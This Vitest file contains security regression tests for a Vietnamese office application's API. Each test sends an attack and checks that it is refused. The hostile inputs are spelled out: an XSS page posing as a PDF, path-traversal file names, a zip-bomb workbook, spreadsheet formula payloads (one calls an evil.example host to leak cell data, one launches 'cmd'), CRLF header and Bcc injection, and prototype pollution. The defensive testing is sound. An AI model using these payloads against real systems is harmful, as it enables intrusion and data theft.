import { mail } from '@tddh/core/mail';
import { commitPerson } from '@tddh/core/people';
import { type Outgoing, sendLetters } from '@tddh/core/post';
import { actors, aDocument, testDesk } from '@tddh/core/testing';
import { readSheet } from '@tddh/forms/sheet';
import { zipSync } from 'fflate';
import { beforeAll, expect, test } from 'vitest';
import { clocked, cookieIn, minute, tokenIn, withFactor } from '../clocked.ts';
import { entered } from '../testing.ts';

/**
 * Attacks that the doors refuse, one test each. Three stand elsewhere as well, generated or closer to their cause: mass
 * assignment of every write of every route and guessed ids in matrix.test.ts, a header smuggled into a real letter in
 * packages/local/src/trap.test.ts, the same formulas and bombs at the sheets themselves in packages/forms.
 */
let api: Awaited<ReturnType<typeof clocked>>;
beforeAll(async () => {
  api = await clocked();
});
const signIn = (body: unknown, headers = {}) => api.ask('nobody', 'POST', '/api/session', body, headers);
const officer = () => ({ username: 'officer', password: api.password });

test('attack: session fixation: a token that was chosen or stolen before is worth nothing after signing in', async () => {
  const chosen = { cookie: `tddh=${'k'.repeat(43)}` };
  const first = cookieIn((await signIn(officer(), chosen)).headers);
  expect(first.cookie).not.toBe(chosen.cookie);
  expect((await api.ask('nobody', 'GET', '/api/session', undefined, chosen)).status).toBe(401);
  const second = cookieIn((await signIn(officer(), first)).headers);
  expect((await api.ask('nobody', 'GET', '/api/session', undefined, first)).status).toBe(401);
  expect((await api.ask('nobody', 'GET', '/api/session', undefined, second)).status).toBe(200);
});

test('attack: a replayed step of the second factor lets nobody in, nor does one of before it', async () => {
  const own = await clocked();
  const { secret } = await withFactor(own);
  const who = { username: 'officer', password: own.password };
  const before = own.code(secret);
  own.pass(30_000);
  const now = own.code(secret);
  expect((await own.signIn({ ...who, code: now })).status).toBe(200);
  for (const code of [now, before]) expect((await own.signIn({ ...who, code })).status).toBe(401);
});

test('attack: a cookie that comes along from another site writes nothing, whatever the page says of itself', async () => {
  const name = { name: 'Tên của kẻ khác' };
  const write = (headers: object) =>
    api.ask('admin', 'PATCH', '/api/people/per_other', name, headers as Record<string, string>);
  for (const headers of [
    { origin: 'https://evil.example' },
    { origin: 'null' },
    { origin: 'http://office.test.evil.example' },
    { 'sec-fetch-site': 'cross-site' },
    { 'sec-fetch-site': 'same-site' },
  ]) {
    expect((await write(headers)).json.code, JSON.stringify(headers)).toBe('wrong_origin');
  }
  const { json } = await api.ask('admin', 'GET', '/api/people');
  expect(JSON.stringify(json)).not.toContain(name.name);
});

test('attack: a form post is refused, in all three encodings that a page can send without asking', async () => {
  for (const type of [
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'text/plain;x=application/json',
  ]) {
    const body = JSON.stringify({ name: 'Từ biểu mẫu' });
    const answer = await api.ask('admin', 'PATCH', '/api/people/per_other', body, { 'content-type': type });
    expect([answer.status, answer.json.code], type).toEqual([415, 'not_json']);
  }
});

test('attack: a guessed link opens nothing, and an expired one neither', async () => {
  await api.ask('admin', 'PATCH', '/api/people/per_head', { email: 'h@so.gov.vn' });
  await api.ask('nobody', 'POST', '/api/links/ask', { username: 'head' });
  const token = await tokenIn(api.db, 'per_head');
  const open = (of: string) => api.ask('nobody', 'POST', '/api/links/open', { token: of });
  expect((await open(token)).status).toBe(200);
  const last = token.at(-1) === 'A' ? 'B' : 'A';
  for (const guess of [token.slice(0, -1) + last, token.toLowerCase(), `${token}=`, 'x'.repeat(43)]) {
    expect((await open(guess)).json.code).toBe('bad_link');
  }
  const rows = await api.db.kept.query.shelf({ shelf: 'opening' }).go({ pages: 'all' });
  expect(JSON.stringify(rows.data)).not.toContain(token);
  api.pass(61 * minute);
  expect((await open(token)).json.code).toBe('bad_link');
  const use = { token, password: 'mot-mat-khau-moi-tinh' };
  expect((await api.ask('nobody', 'POST', '/api/links/use', use)).json.code).toBe('bad_link');
  api.pass(-61 * minute);
});

test('attack: a page named .pdf is known by its content, is never attached, and never shown from our origin', async () => {
  const html = new TextEncoder().encode('<!doctype html><script>alert(document.cookie)</script>');
  for (const lead of ['', '%PDF-', '\ufeff']) {
    const bytes = new TextEncoder().encode(lead + new TextDecoder().decode(html));
    const announced = { name: 'bao-cao.pdf', size: bytes.length, type: 'text/html' };
    const { json } = await api.ask('agency', 'POST', '/api/files', announced);
    const id = json.file?.id;
    api.stored.set(id, bytes);
    const examined = await api.ask('agency', 'POST', `/api/files/${id}/examine`, {});
    expect([lead, examined.status, examined.json.code]).toEqual([lead, 422, 'bad_file']);
  }
});

test.each([
  '../../etc/passwd.pdf',
  '..\\..\\x.pdf',
  '/x.pdf',
  'C:\\x.pdf',
  'a/b.pdf',
  'x\u0000.pdf',
  'a\r\nb.pdf',
])('attack: a path or a line end in a file name is refused: %j', async (name) => {
  const { status, json } = await api.ask('agency', 'POST', '/api/files', { name, size: 9 });
  expect([status, json.errors?.[0].path]).toEqual([422, 'name']);
});

test('attack: a zip bomb in an Excel file is refused before it grows, at every door that takes a workbook', async () => {
  const sheet = `<worksheet><sheetData><row r="1"><c r="A1"><v>${'0'.repeat(80_000_000)}</v></c></row></sheetData></worksheet>`;
  const parts = {
    'xl/workbook.xml': new TextEncoder().encode('<workbook/>'),
    'xl/worksheets/sheet1.xml': new TextEncoder().encode(sheet),
  };
  const bomb = Buffer.from(zipSync(parts, { level: 9 })).toString('base64');
  expect(bomb.length).toBeLessThan(200_000);
  const opened = await api.ask('admin', 'POST', '/api/rosters', { name: 'Đợt bom', dueOn: '2023-07-01' });
  const goal = { name: 'Đợt', goalOn: '2023-07-01', filter: {} };
  await entered(api.ask, aDocument());
  const begun = await api.ask('officer', 'POST', '/api/campaigns', goal);
  const before = process.memoryUsage().rss;
  for (const answer of [
    await api.ask('agency', 'POST', `/api/rosters/${opened.json.round.id}/sheet`, { content: bomb }),
    await api.ask('officer', 'POST', `/api/campaigns/${begun.json.campaign.id}/preview`, { file: bomb }),
  ]) {
    expect([answer.status, answer.json.code]).toEqual([422, 'bad_file']);
  }
  expect(process.memoryUsage().rss - before).toBeLessThan(400 * 1024 * 1024);
});

test('attack: a formula in a cell leaves as text, in every list that goes out', async () => {
  const evil = '=HYPERLINK("https://evil.example?"&A1,"Bấm vào đây")';
  const tasks = [{ content: evil, leads: ['snv'], supports: [], dueOn: null }];
  await entered(api.ask, aDocument({ subject: `+${evil}`, tasks }));
  await api.ask('admin', 'PATCH', '/api/people/per_other', { name: `@SUM(1+1)*cmd|' /C calc'!A0` });
  const goal = { name: 'Đợt công thức', goalOn: '2023-07-01', filter: {} };
  const begun = await api.ask('officer', 'POST', '/api/campaigns', goal);
  for (const path of [
    '/api/assignments.xlsx',
    `/api/campaigns/${begun.json.campaign.id}/sheet.xlsx`,
    '/api/audit.xlsx',
  ]) {
    const { status, bytes } = await api.ask(path.includes('audit') ? 'admin' : 'officer', 'GET', path);
    expect([path, status]).toEqual([path, 200]);
    const { strFromU8, unzipSync } = await import('fflate');
    const xml = Object.entries(unzipSync(bytes)).filter(([name]) => name.startsWith('xl/worksheets/'));
    // The only formula is the address that the product itself writes.
    const own = /<f>HYPERLINK\(&quot;http:\/\/office\.test\/nhiem-vu\/[\w.]+&quot;\)<\/f>/g;
    for (const [name, part] of xml)
      expect(strFromU8(part).replaceAll(own, ''), `${path} ${name}`).not.toMatch(/<f[ >]/);
    const told = (await readSheet(bytes)).flatMap((page) => page.rows.flat()).join('\n');
    expect(told, path).toMatch(/HYPERLINK|cmd\|/);
  }
  const csv = new TextDecoder().decode((await api.ask('admin', 'GET', '/api/audit.csv')).bytes);
  expect(csv).toContain('cmd|');
  expect(csv).not.toMatch(/(^|[,;\n])"?[=+@]/);
});

test('attack: a person cannot make more of the own account than the form has', async () => {
  for (const more of [{ role: 'admin' }, { unitId: 'snv' }, { factor: null }, { fields: ['x'] }]) {
    expect((await signIn({ ...officer(), ...more })).status).toBe(422);
    const body = { current: api.password, password: 'mot-mat-khau-khac-han', ...more };
    expect((await api.ask('officer', 'POST', '/api/account/password', body)).status).toBe(422);
  }
  const raw = `{"current":"x","password":"mot-mat-khau-khac-han","__proto__":{"role":"admin"}}`;
  expect((await api.ask('officer', 'POST', '/api/account/password', raw)).status).toBe(422);
});

test('attack: a JSON of 10 MB is refused before it is read, whether it says its length or not', async () => {
  const large = JSON.stringify({ username: 'x'.repeat(10 * 1024 * 1024), password: 'x' });
  expect((await signIn(large)).json).toMatchObject({ status: 413, code: 'too_large' });
  let sent = 0;
  const stream = new ReadableStream<Uint8Array>({
    pull(controller) {
      sent += 65_536;
      controller.enqueue(new Uint8Array(65_536).fill(32));
      if (sent >= 10 * 1024 * 1024) controller.close();
    },
  });
  const request = new Request('http://office.test/api/session', {
    ...{ method: 'POST', headers: { 'content-type': 'application/json' }, body: stream },
    duplex: 'half',
  } as RequestInit);
  expect((await api.app.request(request)).status).toBe(413);
  expect(sent).toBeLessThan(4 * 1024 * 1024);
});

test('attack: a line end in what is sent back adds no header', async () => {
  const odd = await signIn({ username: 'a\r\nset-cookie: tddh=b', password: 'x' });
  expect([odd.status, odd.headers.get('set-cookie')]).toEqual([401, null]);
  const tasks = [{ content: 'Việc', leads: ['snv'], supports: [], dueOn: null }];
  await entered(api.ask, aDocument({ tasks }));
  const list = await api.ask('officer', 'GET', '/api/assignments.xlsx?q=a%0d%0aset-cookie:%20b=c');
  expect([list.status, list.headers.get('set-cookie')]).toEqual([200, null]);
  const key = { 'idempotency-key': 'a b' };
  expect((await api.ask('officer', 'POST', '/api/documents', aDocument(), key)).status).toBe(422);
});

test('attack: a line end in an address, a name or a subject adds no header to a letter', async () => {
  const bcc = '\r\nBcc: c@d.example';
  const address = await api.ask('admin', 'PATCH', '/api/people/per_other', { email: `a@b.vn${bcc}` });
  expect([address.status, address.json.errors[0].path]).toEqual([422, 'email']);
  const person = { ...actors.other, id: 'per_mail', username: 'mail', passwordHash: 'x', email: 'm@so.vn' };
  await commitPerson(api.db, person, []);
  const desk = { ...testDesk(api.db, actors.officer), now: api.now() };
  await mail(desk, { key: 'inject', personId: 'per_mail', kind: 'soon', subject: `Việc${bcc}`, text: 'x' });
  const sent: Outgoing[] = [];
  const send = async (letter: Outgoing) => {
    sent.push(letter);
    return { ok: true } as const;
  };
  await sendLetters(desk, send, { origin: 'http://office.test', days: 3 });
  const letter = sent.find((one) => one.to.address === 'm@so.vn');
  expect(letter?.subject).toBe('Việc Bcc: c@d.example');
  expect(JSON.stringify(sent.map(({ to, subject, messageId }) => [to, subject, messageId]))).not.toMatch(
    /\\[rn]/,
  );
});
